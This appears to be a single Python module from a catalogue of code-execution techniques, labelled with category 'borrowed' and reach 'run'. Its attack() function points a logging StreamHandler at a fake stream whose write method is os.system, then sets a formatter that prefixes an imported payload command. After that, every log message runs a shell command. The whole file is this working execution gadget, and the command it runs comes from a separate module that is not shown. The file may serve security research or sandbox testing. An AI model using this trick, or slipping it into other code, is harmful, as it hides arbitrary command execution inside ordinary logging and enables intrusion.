"""A handler's stream is a function of C, and its format a command."""
CATEGORY = "borrowed"
REACH = "run"

import logging
import os
import types

from . import payload


def attack():
    stream = types.SimpleNamespace(write=os.system, flush=int)
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter(payload.COMMAND + " # %(message)s"))
    logging.getLogger().addHandler(handler)
